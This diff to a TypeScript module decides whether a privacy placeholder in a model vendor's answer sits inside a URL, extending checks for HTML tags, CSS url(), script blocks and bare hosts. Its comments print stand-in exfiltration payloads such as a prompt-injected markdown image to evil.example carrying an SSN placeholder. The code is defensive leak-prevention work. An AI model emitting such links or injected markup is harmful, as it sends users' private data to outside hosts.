@@ -1,13 +1,23 @@
+import { createDefinitionLabelTracker } from "./definition-label-tracker.ts";
+import {
+  TAG_LINGERING,
+  TAG_OUTSIDE,
+  TAG_STEP_CLOSED,
+  TAG_STEP_VALUE,
+  TAG_STEP_VALUE_ENDED,
+  TAG_STRICT,
+  createHtmlTagTracker,
+} from "./html-tag-tracker.ts";
+import { createJsonSourceDecoder } from "./json-source-decoder.ts";
+import { createRawTextCloser } from "./raw-text-closer.ts";
 import type { RestoreEncoding } from "./restore-options.ts";
 import {
-  BACKSLASH,
-  BACKSPACE,
-  CARRIAGE_RETURN,
+  CLOSE_PAREN,
   COLON,
+  CSS_URL_OPEN,
+  DOT,
   DOUBLE_QUOTE,
-  EQUALS,
-  FORM_FEED,
-  GREATER_THAN,
+  HASH,
   IS_CONTAINER_MARKER,
   IS_PLAIN,
   LESS_THAN,
@@ -17,11 +27,11 @@ import {
   type Marker,
   OPEN_BRACKET,
   OPEN_PAREN,
-  REFERENCE_COLON,
+  QUESTION_MARK,
   SINGLE_QUOTE,
+  SLASH,
   SPACE,
-  TAB,
-  hexValue,
+  isAsciiDigit,
   isAsciiLetter,
   isAsciiLetterOrDigit,
   isWhitespace,
@@ -31,31 +41,42 @@ import {
  * Follows a vendor's answer character by character and says whether a placeholder starting
  * at the current position would sit inside a URL, where restoring it could carry the real
  * value out (a prompt-injected `![](https://evil.example/?q=[US_SSN_7QK2MX])` is fetched by
- * the client's markdown renderer the moment it is shown).
+ * the client's markdown renderer the moment it is shown). When unsure it says yes: a
+ * placeholder wrongly kept costs the user a placeholder, a value wrongly restored leaks it.
  *
- * A position is inside a URL when any of these hold:
- * 1. It is inside an angle-bracket span: from a `<` followed by an ASCII letter (an HTML tag
- *    or an autolink such as `<https://…>`), or a `<` that opens a link destination (right
- *    after `](`, or first in a reference definition's destination), up to the closing `>` or
- *    a blank line. Whitespace does not end the span, and a `>` inside a quoted attribute
- *    value (`="…"`, `='…'`) does not close it.
- * 2. The current segment — the characters since the last whitespace, the last `>` that
- *    closed such a span, or (in JSON) the start of the string — contains, ignoring ASCII
- *    case, `//` (so `://` and protocol-relative `//host`), `](`, `url(`, `www.`, a scheme
- *    (`http:` `https:` `ftp:` `ftps:` `sftp:` `file:` `mailto:` `data:` `tel:` `sms:`
- *    `javascript:` `vbscript:` `blob:` `ws:` `wss:`, not preceded by a letter or digit), or
- *    an attribute (`src=` `href=` `srcset=` `action=` `poster=` `background=` `data=`
- *    `cite=` `ping=`, anywhere, so `lowsrc=` and `formaction=` count too). Only the text
- *    before the position counts.
- * 3. It is in a markdown reference definition's destination: the segment starts with `[`,
- *    has nothing before it on its line but list or quote markers (`-`, `*`, `+`, `>`, `1.`,
- *    `1)`), and has reached `]:`; or it is the next segment after one that ended in `]:`
- *    (the destination may be on the next line; a blank line cancels that).
+ * A position is inside a URL when any of these hold (only the text before it counts):
+ * 1. The current segment — the characters since the last whitespace, the last closed `<…>`,
+ *    or (in JSON) the start of a string — contains, ignoring ASCII case, `//`, `](`, `url(`,
+ *    `www.`, a scheme (`http:` `https:` `ftp:` `ftps:` `sftp:` `file:` `mailto:` `data:`
+ *    `tel:` `sms:` `javascript:` `vbscript:` `blob:` `ws:` `wss:`, not preceded by a letter
+ *    or digit), an attribute (`src=` `href=` `srcset=` `action=` `poster=` `background=`
+ *    `data=` `cite=` `ping=`, anywhere, so `lowsrc=` counts too), or a bare host followed by
+ *    a path, query, fragment or port (`evil.example/`, `evil.example?`, `evil.example:8080/`:
+ *    a dot after a letter or digit, two or more letters, then `/` `?` `#`), which linkify
+ *    turns into a link.
+ * 2. It is in a destination: after a link's `](` or a reference definition's `]:` come any
+ *    whitespace (after `](` even a blank line, which inline renderers read across) and then
+ *    the destination, up to the whitespace that ends it, or from a leading `<` up to its `>`.
+ *    A definition starts a line (or a JSON string) after list or quote markers (`-` `*` `+`
+ *    `>` `1.` `1)`) with `[`; its label may hold whitespace and line breaks and ends at a `]`
+ *    that is neither `\]` nor a placeholder's (restored, a placeholder leaves no bracket).
+ * 3. It is inside a tag, an autolink or a `<…>` destination: from `<` followed by a letter
+ *    (or the `<` that opens a destination) up to the `>` outside a quoted attribute value
+ *    (see `createHtmlTagTracker`; after a blank line outside quotes, only attribute values).
+ *    A URL in a tag's text, outside a quoted value that ends cleanly, runs on past the `>`
+ *    (renderers that read the tag as text extend a GFM autolink over it).
+ * 4. It is inside `<script>` or `<style>` (even one that starts inside another tag), up to a
+ *    closing tag a renderer passes on as HTML (see `createRawTextCloser`), blank lines
+ *    included; or after CSS `url(`, up to its `)` outside quotes.
  *
- * Only the vendor's text is followed (never restored values), and only a few flags and the
- * last {@link RECENT_SIZE} characters of the segment are kept, so state is constant-size.
- * In `"json-string"` encoding the text is JSON source: escapes (`\n`, `\/`, `\u003c` …) are
- * decoded before they are followed, and each JSON string starts a new segment.
+ * Not caught, as it needs look-ahead: a placeholder before the host of a bare URL or an
+ * email address that linkify links (`[US_SSN_7QK2MX].evil.example`, `[EMAIL_…]@evil.example`).
+ *
+ * Only the vendor's text is followed (never restored values), and only a few flags, a tag
+ * name of up to seven letters and the last {@link RECENT_SIZE} characters of the segment
+ * are kept, so state is constant-size. In `"json-string"` encoding the text is JSON source
+ * (see `createJsonSourceDecoder`): escapes are decoded, each string starts a new segment and
+ * a new line, and the source outside strings is followed as text.
  */
 export interface RestoreUrlContext {
   /** Follows `text[start..end)`, the vendor's text as it arrived. */
@@ -74,188 +95,209 @@ export function createRestoreUrlContext(options: { encoding?: RestoreEncoding } 
   let recentEnd = 0;
   let segmentLength = 0;
   let segmentInUrl = false;
-  let segmentIsReferenceLabel = false;
   let segmentIsDestination = false;
-  let referenceColonLast = false;
+  /** The last character was the `(` of `](` or the `:` of a definition's `]:`. */
+  let destinationOpenedLast = false;
+  let destinationIsLink = false;
+  /** A destination opened and only whitespace has followed: the next segment is the destination. */
   let destinationPending = false;
-  let linkOpenedLast = false;
   let lessThanPending = false;
   /** Nothing on this line yet but list or quote markers (`-`, `1.`, `>`), where a definition may start. */
   let lineHasOnlyContainerMarkers = true;
   let lineIsBlank = false;
-  let insideAngle = false;
-  let angleQuote = 0;
-  let angleAfterEquals = false;
+  let cssUrlOpen = false;
+  let cssUrlQuote = 0;
+  const tag = createHtmlTagTracker();
+  const label = createDefinitionLabelTracker();
+  /** While inside `<script>` or `<style>`: finds the closing tag. */
+  let rawTextCloser: ((code: number) => boolean) | undefined;
 
-  let jsonInString = false;
-  /** 0: no escape; 1: after `\`; 2–5: inside `\uXXXX`, with `jsonEscape - 2` hex digits read. */
-  let jsonEscape = 0;
-  let jsonUnicode = 0;
+  const recentAt = (offset: number): number => recent[(recentEnd - 1 - offset) & RECENT_MASK]!;
 
   function endsWith(marker: Marker): boolean {
     const reversed = marker.reversed;
     const length = reversed.length;
     if (segmentLength < length) return false;
     for (let offset = 0; offset < length; offset++) {
-      if (recent[(recentEnd - 1 - offset) & RECENT_MASK] !== reversed[offset]) return false;
+      if (recentAt(offset) !== reversed[offset]) return false;
     }
-    return !marker.wordStart || segmentLength === length || !isAsciiLetterOrDigit(recent[(recentEnd - 1 - length) & RECENT_MASK]!);
+    return !marker.wordStart || segmentLength === length || !isAsciiLetterOrDigit(recentAt(length));
+  }
+
+  /** After `/`, `?` or `#`: whether the segment ends in a bare host (`evil.example`, `evil.example:8080`) before it. */
+  function endsWithHost(): boolean {
+    const limit = segmentLength < RECENT_SIZE ? segmentLength : RECENT_SIZE;
+    let offset = 1;
+    while (offset < limit && isAsciiDigit(recentAt(offset))) offset++;
+    if (offset > 1) {
+      if (offset >= limit || recentAt(offset) !== COLON) return false;
+      offset++;
+    }
+    const lettersStart = offset;
+    while (offset < limit && isAsciiLetter(recentAt(offset))) offset++;
+    return offset - lettersStart >= 2 && offset + 1 < limit && recentAt(offset) === DOT && isAsciiLetterOrDigit(recentAt(offset + 1));
   }
 
   function resetSegment(): void {
     segmentLength = 0;
     segmentInUrl = false;
-    referenceColonLast = false;
-    linkOpenedLast = false;
+    destinationOpenedLast = false;
   }
 
-  function openAngle(): void {
-    insideAngle = true;
-    angleQuote = 0;
-    angleAfterEquals = false;
+  /** Adds a character to the segment and notes whether that puts the segment in a URL. */
+  function extendSegment(code: number): void {
+    recent[recentEnd] = code >= 0x41 && code <= 0x5a ? code | 0x20 : code;
+    recentEnd = (recentEnd + 1) & RECENT_MASK;
+    segmentLength++;
+    if (code >= 128 || segmentInUrl) return;
+    const markers = MARKERS_BY_LAST_CODE[code];
+    if (markers !== undefined) {
+      for (const marker of markers) {
+        if (endsWith(marker)) {
+          segmentInUrl = true;
+          return;
+        }
+      }
+    }
+    if ((code === SLASH || code === QUESTION_MARK || code === HASH) && endsWithHost()) segmentInUrl = true;
+  }
+
+  function openDestination(isLink: boolean): void {
+    segmentInUrl = true;
+    destinationOpenedLast = true;
+    destinationIsLink = isLink;
+  }
+
+  /** Follows a non-whitespace character inside `<…>`; true when nothing else is to be done with it. */
+  function takeInsideTag(code: number): boolean {
+    const strict = tag.mode === TAG_STRICT;
+    const step = tag.take(code);
+    if ((step & TAG_STEP_VALUE_ENDED) !== 0) resetSegment();
+    if ((step & TAG_STEP_CLOSED) !== 0) {
+      // A URL in the tag's text runs on past its `>` when renderers read the tag as text (GFM
+      // autolinks end at whitespace or `<` only): `<a href=https://evil.example/?q=>[…]`.
+      if (!segmentInUrl) resetSegment();
+      if (tag.rawTextCloser !== "") rawTextCloser = createRawTextCloser(tag.rawTextCloser);
+      return true;
+    }
+    // The tag's text is a segment too, for a URL that runs on past the `>`.
+    if (!strict && (step & TAG_STEP_VALUE) === 0) return false;
+    extendSegment(code);
+    return true;
+  }
+
+  function takeCssUrl(code: number): void {
+    if (cssUrlQuote !== 0) {
+      if (code === cssUrlQuote) cssUrlQuote = 0;
+    } else if (code === DOUBLE_QUOTE || code === SINGLE_QUOTE) cssUrlQuote = code;
+    else if (code === CLOSE_PAREN) cssUrlOpen = false;
+  }
+
+  /**
+   * A blank line ends a paragraph for block renderers but not for inline ones (markdown-it's
+   * `renderInline`, marked's `parseInline`), so only what neither carries across ends here.
+   */
+  function takeBlankLine(): void {
+    tag.takeBlankLine();
+    if (!destinationIsLink) destinationPending = false;
+    label.open = false;
+    if (cssUrlQuote === 0) cssUrlOpen = false;
   }
 
   function takeWhitespace(code: number): void {
     lessThanPending = false;
-    linkOpenedLast = false;
+    if (label.open) label.takeWhitespace(code);
+    if (tag.mode !== TAG_OUTSIDE) tag.takeWhitespace();
     if (code === LINE_FEED) {
-      // A blank line ends every inline construct in markdown, an unclosed tag included.
-      if (lineIsBlank) {
-        insideAngle = false;
-        destinationPending = false;
-      }
+      if (lineIsBlank) takeBlankLine();
       lineIsBlank = true;
       lineHasOnlyContainerMarkers = true;
     }
-    if (insideAngle || segmentLength === 0) return;
-    if (referenceColonLast) destinationPending = true;
+    if (segmentLength === 0) return;
+    if (destinationOpenedLast) destinationPending = true;
     resetSegment();
   }
 
-  function takeInsideAngle(code: number): void {
-    if (angleQuote !== 0) {
-      if (code === angleQuote) angleQuote = 0;
-      return;
-    }
-    if (code === GREATER_THAN) {
-      insideAngle = false;
-      resetSegment();
-      return;
-    }
-    // Only a quote that opens an attribute value hides a `>`; `it's` in an autolink does not.
-    if (angleAfterEquals && (code === DOUBLE_QUOTE || code === SINGLE_QUOTE)) angleQuote = code;
-    angleAfterEquals = code === EQUALS;
-  }
-
   function take(code: number): void {
+    if (rawTextCloser !== undefined) {
+      if (rawTextCloser(code)) {
+        rawTextCloser = undefined;
+        lineHasOnlyContainerMarkers = false;
+        resetSegment();
+      }
+      return;
+    }
     if (code <= SPACE && isWhitespace(code)) {
       takeWhitespace(code);
       return;
     }
     lineIsBlank = false;
-    if (insideAngle) {
-      takeInsideAngle(code);
-      return;
-    }
+    if (tag.mode !== TAG_OUTSIDE && takeInsideTag(code)) return;
     if (lessThanPending) {
       lessThanPending = false;
       if (isAsciiLetter(code)) {
-        openAngle();
+        // A URL in the text before a tag ends at its `<`; the tag's text starts a new segment.
+        resetSegment();
+        extendSegment(code);
+        tag.open(code);
         return;
       }
     }
+    if (cssUrlOpen) takeCssUrl(code);
+    const atLineStart = lineHasOnlyContainerMarkers;
+    if (atLineStart && (code >= 128 || IS_CONTAINER_MARKER[code] === 0)) lineHasOnlyContainerMarkers = false;
     if (segmentLength === 0) {
-      segmentIsReferenceLabel = lineHasOnlyContainerMarkers && code === OPEN_BRACKET;
       segmentIsDestination = destinationPending;
       if (destinationPending) {
         destinationPending = false;
         segmentInUrl = true;
       }
     }
-    recent[recentEnd] = code >= 0x41 && code <= 0x5a ? code | 0x20 : code;
-    recentEnd = (recentEnd + 1) & RECENT_MASK;
-    segmentLength++;
-    if (lineHasOnlyContainerMarkers && (code >= 128 || IS_CONTAINER_MARKER[code] === 0)) lineHasOnlyContainerMarkers = false;
-    // A `<` that opens a link destination opens an angle span even before a non-letter.
-    const destinationOpen = linkOpenedLast || referenceColonLast || (segmentIsDestination && segmentLength === 1);
-    linkOpenedLast = false;
-    referenceColonLast = false;
-    if (code >= 128) return;
-    const markers = MARKERS_BY_LAST_CODE[code];
-    if (markers !== undefined && !segmentInUrl) {
-      for (const marker of markers) {
-        if (endsWith(marker)) {
-          segmentInUrl = true;
-          break;
-        }
-      }
-    }
+    extendSegment(code);
+    // A `<` that opens a destination opens `<…>` even before a non-letter.
+    const destinationOpen = destinationOpenedLast || (segmentIsDestination && segmentLength === 1);
+    destinationOpenedLast = false;
+    if (label.open) {
+      if (label.take(code)) openDestination(false);
+    } else if (atLineStart && code === OPEN_BRACKET) label.start();
     if (code === LESS_THAN) {
-      if (destinationOpen) openAngle();
+      if (destinationOpen) tag.open(0);
       else lessThanPending = true;
     } else if (code === OPEN_PAREN) {
-      linkOpenedLast = endsWith(LINK_OPEN);
-    } else if (code === COLON && segmentIsReferenceLabel && endsWith(REFERENCE_COLON)) {
-      segmentInUrl = true;
-      referenceColonLast = true;
-    }
-  }
-
-  /** Decodes JSON source into the characters it stands for; structure acts as whitespace. */
-  function takeJsonSource(code: number): void {
-    if (!jsonInString) {
-      if (code === DOUBLE_QUOTE) jsonInString = true;
-      take(SPACE);
-      return;
-    }
-    if (jsonEscape === 0) {
-      if (code === BACKSLASH) jsonEscape = 1;
-      else if (code === DOUBLE_QUOTE) {
-        jsonInString = false;
-        take(SPACE);
-      } else take(code);
-      return;
-    }
-    if (jsonEscape === 1) {
-      jsonEscape = 0;
-      switch (code) {
-        case 0x6e: return take(LINE_FEED);
-        case 0x72: return take(CARRIAGE_RETURN);
-        case 0x74: return take(TAB);
-        case 0x66: return take(FORM_FEED);
-        case 0x62: return take(BACKSPACE);
-        case 0x75:
-          jsonEscape = 2;
-          jsonUnicode = 0;
-          return;
-        default: return take(code);
+      if (endsWith(LINK_OPEN)) openDestination(true);
+      else if (!cssUrlOpen && endsWith(CSS_URL_OPEN)) {
+        cssUrlOpen = true;
+        cssUrlQuote = 0;
       }
     }
-    const digit = hexValue(code);
-    if (digit < 0) {
-      // Malformed escape: the vendor's JSON is broken; follow the character literally.
-      jsonEscape = 0;
-      take(code);
-      return;
-    }
-    jsonUnicode = jsonUnicode * 16 + digit;
-    if (++jsonEscape === 6) {
-      jsonEscape = 0;
-      take(jsonUnicode);
-    }
   }
 
+  const decodeJsonSource = createJsonSourceDecoder({
+    take,
+    startString() {
+      take(SPACE);
+      lineHasOnlyContainerMarkers = true;
+    },
+  });
   const isJson = options.encoding === "json-string";
 
   return {
     advance: function advance(text, start, end) {
       if (isJson) {
-        for (let index = start; index < end; index++) takeJsonSource(text.charCodeAt(index));
+        for (let index = start; index < end; index++) decodeJsonSource(text.charCodeAt(index));
         return;
       }
       for (let index = start; index < end; index++) {
         const code = text.charCodeAt(index);
-        if (segmentLength === 0 || insideAngle || lessThanPending || (code < 128 && IS_PLAIN[code] === 0)) {
+        if (
+          segmentLength === 0 ||
+          (code < 128 && IS_PLAIN[code] === 0) ||
+          tag.mode !== TAG_OUTSIDE ||
+          lessThanPending ||
+          label.open ||
+          cssUrlOpen ||
+          rawTextCloser !== undefined
+        ) {
           take(code);
           continue;
         }
@@ -263,13 +305,14 @@ export function createRestoreUrlContext(options: { encoding?: RestoreEncoding } 
         recent[recentEnd] = code >= 0x41 && code <= 0x5a ? code | 0x20 : code;
         recentEnd = (recentEnd + 1) & RECENT_MASK;
         segmentLength++;
-        linkOpenedLast = false;
-        referenceColonLast = false;
+        destinationOpenedLast = false;
         if (lineHasOnlyContainerMarkers && (code >= 128 || IS_CONTAINER_MARKER[code] === 0)) lineHasOnlyContainerMarkers = false;
       }
     },
     isInsideUrl: function isInsideUrl() {
-      return insideAngle || (segmentLength > 0 ? segmentInUrl : destinationPending);
+      if (tag.mode === TAG_STRICT || rawTextCloser !== undefined || cssUrlOpen) return true;
+      if (tag.mode === TAG_LINGERING && tag.isInValue()) return true;
+      return segmentLength > 0 ? segmentInUrl : destinationPending;
     },
   };
 }
